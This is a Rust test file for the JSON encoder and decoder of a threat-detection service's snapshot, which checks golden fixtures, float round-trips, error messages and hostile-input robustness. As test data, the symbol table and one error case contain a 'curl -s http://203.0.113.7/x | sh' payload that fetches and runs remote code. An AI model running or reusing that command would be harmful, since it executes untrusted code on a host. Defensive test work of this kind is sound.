//! Wire-format contract of [`ServiceSnapshot::to_json`] /
//! [`ServiceSnapshot::from_json`]:
//!
//! - the encoder's bytes equal the committed v1 golden fixture, so the
//!   layout, key order, escaping and float text never drift;
//! - the encoder agrees byte for byte with the `serde_json` pretty
//!   printer on a campaign-scale snapshot;
//! - floats round-trip bit for bit, negative zero and subnormals included;
//! - hostile input (truncation, byte mutations, deep nesting) returns
//!   `Err` or a snapshot that re-encodes, and never panics.

use std::net::Ipv4Addr;

use alertlib::alert::SnapKey;
use alertlib::filter::{FilterSnapshot, FilterStats, FilterWindowSnapshot};
use detect::attack_tagger::{EntityStateSnapshot, TaggerSnapshot};
use detect::correlate::{
    CampaignSnapshot, CorrelatorEntitySnapshot, CorrelatorSnapshot, JoinKeySnapshot, LinkKind,
    LinkSnapshot,
};
use proptest::prelude::*;
use scenario::mutate::{generate_campaign, CampaignConfig};
use scenario::stream::RecordStreamConfig;
use simnet::intern::TenantId;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use testbed::{PipelineBuilder, ServiceConfig, ServiceHandle, ServiceSnapshot, StreamStats};

const GOLDEN_V1: &str = include_str!("fixtures/snapshot_v1.json");
const GOLDEN_V2: &str = include_str!("fixtures/snapshot_v2.json");

fn t(secs: u64) -> SimTime {
    SimTime::from_secs(secs)
}

fn user(position: u32) -> SnapKey {
    SnapKey {
        kind: SnapKey::USER,
        id: position,
    }
}

fn addr(kind: u8, a: &str) -> SnapKey {
    let a: Ipv4Addr = a.parse().unwrap();
    SnapKey {
        kind,
        id: u32::from(a),
    }
}

/// A full ring: `head`'s slots, then empty slots up to the ring's arity.
fn ring<T: Copy, const N: usize>(head: &[T], empty: T) -> [T; N] {
    let mut out = [empty; N];
    out[..head.len()].copy_from_slice(head);
    out
}

/// An empty step or dedup slot.
const NO_STEP: (SimTime, u16) = (SimTime::EPOCH, u16::MAX);

/// A small snapshot touching every wire shape: a tagger, a correlator
/// with a campaign and links, a palette join key, `null` ring slots, an
/// empty array and a user name that needs escaping. Rings have their full
/// arity; slots past the ones the test pins are empty. It is also what the
/// v1 fixture decodes to: that document's universe holds `alice` and the
/// odd user, and `mallory` and the palette payload are appended in the
/// order the document first names them.
fn golden_snapshot() -> ServiceSnapshot {
    let odd_user = "o\"brien\\ops\n\t\r\u{1}\u{1f}é";
    let (alice, odd, mallory, palette) = (user(0), user(1), user(2), 3);
    let host = addr(SnapKey::ADDR, "10.0.0.5");
    ServiceSnapshot {
        tenant: TenantId(7),
        stats: StreamStats {
            records: 1_200,
            alerts: 340,
            admitted: 120,
            detections: 3,
        },
        filter: FilterSnapshot {
            windows: vec![
                FilterWindowSnapshot {
                    source: addr(SnapKey::SOURCE, "10.0.0.9"),
                    kind: 4,
                    start: t(60),
                    admitted: 2,
                },
                FilterWindowSnapshot {
                    source: odd,
                    kind: 11,
                    start: t(90),
                    admitted: 1,
                },
            ],
            stats: FilterStats {
                seen: 340,
                admitted: 120,
                suppressed: 220,
            },
            last_sweep: t(3_600),
        },
        tagger: Some(TaggerSnapshot {
            entities: vec![
                EntityStateSnapshot {
                    entity: alice,
                    alpha: [0.5, 0.25, 1.0, 1e-300, 0.1 + 0.2, 0.0],
                    steps: 17,
                    detected: true,
                    last_ts: t(3_000),
                    recent: ring(
                        &[(t(2_990), 3), (SimTime::from_nanos(0), u16::MAX)],
                        NO_STEP,
                    ),
                    recent_head: 1,
                },
                EntityStateSnapshot {
                    entity: odd,
                    alpha: [0.0, 1.0, 0.0, 0.0, 0.0, 0.0],
                    steps: 2,
                    detected: false,
                    last_ts: t(95),
                    recent: [NO_STEP; 8],
                    recent_head: 0,
                },
            ],
            evicted_latches: vec![mallory],
            duplicates_suppressed: 4,
            entities_evicted: 1,
        }),
        correlator: Some(CorrelatorSnapshot {
            entities: vec![
                CorrelatorEntitySnapshot {
                    entity: host,
                    campaign: 0,
                    mass: 2.5,
                    last_ts: t(2_900),
                    seen: 6,
                    promoted: false,
                    steps: ring(&[(t(2_900), 7)], NO_STEP),
                    steps_head: 0,
                },
                CorrelatorEntitySnapshot {
                    entity: alice,
                    campaign: u32::MAX,
                    mass: 0.125,
                    last_ts: t(3_000),
                    seen: 17,
                    promoted: true,
                    steps: ring(
                        &[(t(2_990), 3), (SimTime::from_nanos(1), u16::MAX)],
                        NO_STEP,
                    ),
                    steps_head: 1,
                },
            ],
            keys: vec![
                JoinKeySnapshot {
                    kind: LinkKind::Victim,
                    id: 0x0A00_0005,
                    slots: ring(&[Some((alice, t(2_990))), None], None),
                    head: 1,
                },
                JoinKeySnapshot {
                    kind: LinkKind::Palette,
                    id: palette,
                    slots: ring(&[Some((odd, t(95)))], None),
                    head: 0,
                },
            ],
            campaigns: vec![CampaignSnapshot {
                id: 0,
                members: vec![alice, host],
                links: vec![
                    LinkSnapshot {
                        ts: t(2_900),
                        a: alice,
                        b: host,
                        kind: LinkKind::Victim,
                    },
                    LinkSnapshot {
                        ts: t(2_950),
                        a: alice,
                        b: odd,
                        kind: LinkKind::Palette,
                    },
                ],
                best_key: Some(alice),
                best_mass: 2.5,
                second: 0.75,
                support_ts: t(2_990),
                promotions: 1,
                detections: 2,
            }],
            promoted_latches: Vec::new(),
            next_campaign: 1,
            promotions: 1,
            tagger_confirmations: 2,
            entities_evicted: 0,
        }),
        sym_universe: [
            "alice",
            odd_user,
            "mallory",
            "curl -s http://203.0.113.7/x | sh",
        ]
        .into_iter()
        .collect(),
    }
}

#[test]
fn encoder_matches_the_v2_golden_fixture() {
    assert_eq!(golden_snapshot().to_json(), GOLDEN_V2);
}

#[test]
fn v2_golden_fixture_decodes_to_its_snapshot() {
    let decoded = ServiceSnapshot::from_json(GOLDEN_V2).expect("golden fixture decodes");
    assert_eq!(decoded, golden_snapshot());
}

#[test]
fn golden_fixture_decodes_to_its_snapshot() {
    let decoded = ServiceSnapshot::from_json(GOLDEN_V1).expect("golden fixture decodes");
    assert_eq!(decoded, golden_snapshot());
}

/// A live tenant snapshot of a correlated campaign over a uniform
/// background: thousands of tagger and correlator entities, hundreds of
/// join keys and real posterior floats.
fn campaign_snapshot() -> ServiceSnapshot {
    let cfg = CampaignConfig {
        sessions: 40,
        horizon: SimDuration::from_hours(24),
        background: Some(RecordStreamConfig {
            scan_records: 2_000,
            benign_flows: 1_000,
            exec_records: 8_000,
            users: 1_500,
            zipf_exponent: 0.0,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    let records = generate_campaign(&cfg, &mut SimRng::seed(0xC0DEC)).records;
    let service = ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
        PipelineBuilder::new()
            .tagger(detect::AttackTagger::new(
                detect::train::toy_training_model(),
                detect::TaggerConfig::default(),
            ))
            .correlation(detect::CorrelationPolicy::default())
            .scope(scope)
            .build()
    });
    let tenant = TenantId(2);
    for chunk in records.chunks(4_096) {
        service
            .ingest(tenant, chunk.to_vec())
            .expect("worker alive");
    }
    service.snapshot(tenant).expect("live tenant snapshots")
}

#[test]
fn encoder_agrees_with_the_serde_json_compact_printer() {
    let snap = campaign_snapshot();
    let tagger = snap.tagger.as_ref().expect("tagger state");
    let correlator = snap.correlator.as_ref().expect("correlator state");
    assert!(tagger.entities.len() >= 1_000, "{}", tagger.entities.len());
    assert!(
        correlator.entities.len() >= 1_000,
        "{}",
        correlator.entities.len()
    );
    assert!(!correlator.campaigns.is_empty());
    let wire = snap.to_json();
    let tree = serde_json::from_str(&wire).expect("wire is JSON");
    assert_eq!(serde_json::to_string(&tree).unwrap(), wire);
    assert_eq!(ServiceSnapshot::from_json(&wire).unwrap(), snap);
}

#[test]
fn floats_round_trip_bit_for_bit() {
    let values = [-0.0, 5e-324, f64::MAX, 1.0, 0.1 + 0.2, f64::MIN_POSITIVE];
    let mut snap = golden_snapshot();
    snap.tagger.as_mut().unwrap().entities[0].alpha = values;
    for &v in &values {
        let correlator = snap.correlator.as_mut().unwrap();
        correlator.entities[0].mass = v;
        correlator.campaigns[0].best_mass = v;
        correlator.campaigns[0].second = v;
        let decoded = ServiceSnapshot::from_json(&snap.to_json()).expect("round-trips");
        let alpha = &decoded.tagger.as_ref().unwrap().entities[0].alpha;
        let bits: Vec<u64> = alpha.iter().map(|p| p.to_bits()).collect();
        let want: Vec<u64> = values.iter().map(|p| p.to_bits()).collect();
        assert_eq!(bits, want, "alpha");
        let correlator = decoded.correlator.as_ref().unwrap();
        let campaign = &correlator.campaigns[0];
        for (name, got) in [
            ("mass", correlator.entities[0].mass),
            ("best_mass", campaign.best_mass),
            ("second", campaign.second),
        ] {
            assert_eq!(got.to_bits(), v.to_bits(), "{name} = {v:e}");
        }
    }
}

/// Re-serialize `text` after editing its `serde_json` tree.
fn edit(text: &str, f: impl FnOnce(&mut serde_json::Value)) -> String {
    let mut tree = serde_json::from_str(text).unwrap();
    f(&mut tree);
    serde_json::to_string_pretty(&tree).unwrap()
}

fn fields(v: &mut serde_json::Value) -> &mut Vec<(String, serde_json::Value)> {
    match v {
        serde_json::Value::Object(fields) => fields,
        other => panic!("not an object: {other}"),
    }
}

#[test]
fn decode_accepts_any_key_order_unknown_keys_and_repeats() {
    for golden in [GOLDEN_V2, GOLDEN_V1] {
        let reordered = edit(golden, |tree| {
            let top = fields(tree);
            // `sym_universe` first and `format` last.
            if golden == GOLDEN_V2 {
                top.reverse();
            } else {
                // A format-1 document appends the names its universe
                // lacks in the order it first mentions them, so its
                // tagger stays ahead of its correlator.
                top.rotate_right(1);
                let format = top.remove(1);
                top.push(format);
            }
            // Unknown keys of every shape are validated and skipped.
            top.insert(
                1,
                (
                    "comment".into(),
                    serde_json::json!({"a": [1, -2.5e3, null, true, "x\u{1}"], "b": {}}),
                ),
            );
            // A repeated key: the first occurrence wins.
            top.push(("stats".into(), serde_json::json!("ignored")));
            top.push(("format".into(), serde_json::json!(999)));
            for (k, v) in top.iter_mut() {
                if k == "tagger" || k == "correlator" || k == "filter" {
                    fields(v).reverse();
                }
            }
        });
        assert_eq!(
            ServiceSnapshot::from_json(&reordered).unwrap(),
            golden_snapshot()
        );

        for key in ["tagger", "correlator"] {
            let nulled = edit(golden, |tree| {
                fields(tree).iter_mut().find(|(k, _)| k == key).unwrap().1 =
                    serde_json::Value::Null;
            });
            let missing = edit(golden, |tree| fields(tree).retain(|(k, _)| k != key));
            for text in [nulled, missing] {
                let snap = ServiceSnapshot::from_json(&text).unwrap();
                let absent = match key {
                    "tagger" => snap.tagger.is_none(),
                    _ => snap.correlator.is_none(),
                };
                assert!(absent, "{key} decodes to None");
            }
        }
    }
}

/// `text` with the first `from` replaced by `to`.
fn replace(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "{from}");
    text.replacen(from, to, 1)
}

#[test]
fn ring_arity_errors_name_the_field_and_the_count() {
    let short = replace(GOLDEN_V2, "\"alpha\":[0.5,0.25,1,", "\"alpha\":[0.25,1,");
    let err = ServiceSnapshot::from_json(&short).unwrap_err();
    assert!(
        err.contains("`alpha`") && err.ends_with("5 items, expected 6"),
        "{err}"
    );
    let long = replace(GOLDEN_V2, "\"slots\":[", "\"slots\":[null,");
    let err = ServiceSnapshot::from_json(&long).unwrap_err();
    assert!(
        err.contains("`slots`") && err.ends_with("more than 8 items"),
        "{err}"
    );
}

fn assert_errors(cases: Vec<(String, &str)>) {
    for (text, field) in cases {
        let err = ServiceSnapshot::from_json(&text).unwrap_err();
        assert!(err.contains(field), "{field}: {err}");
    }
}

#[test]
fn decode_errors_name_the_field() {
    let v2 = |from: &str, to: &str| replace(GOLDEN_V2, from, to);
    assert_errors(vec![
        (v2("\"tenant\":7", "\"tenant\":4294967296"), "tenant"),
        (
            v2("\"recent_head\":1", "\"recent_head\":256"),
            "recent_head",
        ),
        (v2("\"kind\":11", "\"kind\":65536"), "kind"),
        (v2("\"seen\":340", "\"seen\":-1"), "seen"),
        (v2("\"seen\":340", "\"seen\":3.5"), "seen"),
        (v2("\"mass\":2.5", "\"mass\":null"), "mass"),
        (v2("\"detected\":true", "\"detected\":1"), "detected"),
        (v2("\"kind\":\"victim\"", "\"kind\":\"lateral\""), "kind"),
        (v2("\"victim\"]", "\"lateral\"]"), "links"),
        (v2("65535]", "65535,1]"), "recent"),
        // Rings have the arity of their field's type: one item short or
        // one too many is an error.
        (v2("\"alpha\":[0.5,0.25,1,", "\"alpha\":[0.25,1,"), "alpha"),
        (
            v2("\"alpha\":[0,1,0,0,0,0]", "\"alpha\":[0,1,0,0,0,0,0]"),
            "alpha",
        ),
        (
            v2("\"recent\":[[2990000000000,3],", "\"recent\":["),
            "recent",
        ),
        (v2("\"steps\":[[2900000000000,7],", "\"steps\":["), "steps"),
        (
            v2(
                "\"steps\":[[2990000000000,3],",
                "\"steps\":[[2990000000000,3],[0,65535],",
            ),
            "steps",
        ),
        (
            v2(
                "\"slots\":[[[1,0],2990000000000],null,",
                "\"slots\":[[[1,0],2990000000000],null,null,",
            ),
            "slots",
        ),
        (
            v2("\"slots\":[[[1,1],95000000000],", "\"slots\":["),
            "slots",
        ),
        (v2("\"entity\":[1,0]", "\"entity\":[1]"), "entity"),
        (v2("\"entity\":[1,0]", "\"entity\":[256,0]"), "entity"),
        (
            v2("\"entity\":[1,0]", "\"entity\":[1,4294967296]"),
            "entity",
        ),
        // A format-1 key string in a format-2 document.
        (
            v2("\"entity\":[1,0]", "\"entity\":\"user:alice\""),
            "entity",
        ),
        (v2("\"entity\":[1,0],", ""), "entity"),
        (v2("\"best_key\":[1,0]", "\"best_key\":0"), "best_key"),
        (v2("\"id\":167772165,", ""), "id"),
        (
            v2("\"evicted_latches\":[[1,2]]", "\"evicted_latches\":[1,2]"),
            "evicted_latches",
        ),
        (v2("[\"alice\",", "[7,"), "sym_universe"),
        (v2("\"format\":2", "\"format\":\"2\""), "format"),
        (v2("\"format\":2", "\"format\":3"), "format 3"),
        (format!("{GOLDEN_V2} {{}}"), "trailing"),
    ]);
    let v1 = |from: &str, to: &str| replace(GOLDEN_V1, from, to);
    assert_errors(vec![
        (v1("\"tenant\": 7", "\"tenant\": 4294967296"), "tenant"),
        (v1("\"kind\": \"victim\"", "\"kind\": \"lateral\""), "kind"),
        (
            v1("\"entity\": \"user:alice\"", "\"entity\": \"not-a-key\""),
            "entity",
        ),
        (
            v1(
                "\"entity\": \"addr:10.0.0.5\"",
                "\"entity\": \"addr:10.0.0\"",
            ),
            "entity",
        ),
        (
            v1("\"entity\": \"user:alice\"", "\"entity\": [1, 0]"),
            "entity",
        ),
        (v1("\"palette\": null,\n", ""), "palette"),
        (
            v1("\"alpha\": [\n          0.5,\n", "\"alpha\": [\n"),
            "alpha",
        ),
        (
            v1(
                "\"alpha\": [\n          0.5,",
                "\"alpha\": [\n          0.5,\n          0.5,",
            ),
            "alpha",
        ),
        (
            v1(
                "\"recent\": [\n          [\n            2990000000000,\n            3\n          ],\n",
                "\"recent\": [\n",
            ),
            "recent",
        ),
        (
            v1(
                "\"steps\": [\n          [\n            2900000000000,\n            7\n          ],\n",
                "\"steps\": [\n",
            ),
            "steps",
        ),
        (
            v1("\"slots\": [\n", "\"slots\": [\n          null,\n"),
            "slots",
        ),
        (
            v1(
                "\"palette\": \"curl -s http://203.0.113.7/x | sh\"",
                "\"palette\": null",
            ),
            "palette",
        ),
        (v1("\"sym_universe\"", "\"universe\""), "sym_universe"),
        (format!("{GOLDEN_V1} {{}}"), "trailing"),
    ]);
}

#[test]
fn every_truncation_is_an_error() {
    for golden in [GOLDEN_V2, GOLDEN_V1] {
        for end in 0..golden.len() {
            if golden.is_char_boundary(end) {
                assert!(
                    ServiceSnapshot::from_json(&golden[..end]).is_err(),
                    "prefix of {end} bytes decoded"
                );
            }
        }
    }
}

#[test]
fn deep_nesting_in_an_unknown_key_is_an_error_not_a_stack_overflow() {
    for format in [2, 1] {
        let deep = format!("{{\"format\":{format},\"junk\":{}", "[".repeat(1 << 20));
        let err = ServiceSnapshot::from_json(&deep).unwrap_err();
        assert!(err.contains("junk"), "{err}");
    }
    let closed = format!(
        "{{\"junk\":{}{}}}",
        "[".repeat(1 << 20),
        "]".repeat(1 << 20)
    );
    assert!(ServiceSnapshot::from_json(&closed).is_err());
}

/// Decode hostile text: an `Err`, or a snapshot that re-encodes.
fn decode_survives(text: &str) {
    if let Ok(snap) = ServiceSnapshot::from_json(text) {
        let _ = snap.to_json();
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Single-byte substitutions and insertions anywhere in either
    /// fixture.
    #[test]
    fn mutated_fixtures_never_panic(
        v1 in 0u8..2,
        at in 0usize..1 << 20,
        byte in 0u8..=255,
        insert in 0u8..2,
    ) {
        let golden = if v1 == 1 { GOLDEN_V1 } else { GOLDEN_V2 };
        let mut bytes = golden.as_bytes().to_vec();
        let at = at % bytes.len();
        if insert == 1 {
            bytes.insert(at, byte);
        } else {
            bytes[at] = byte;
        }
        decode_survives(&String::from_utf8_lossy(&bytes));
    }
}
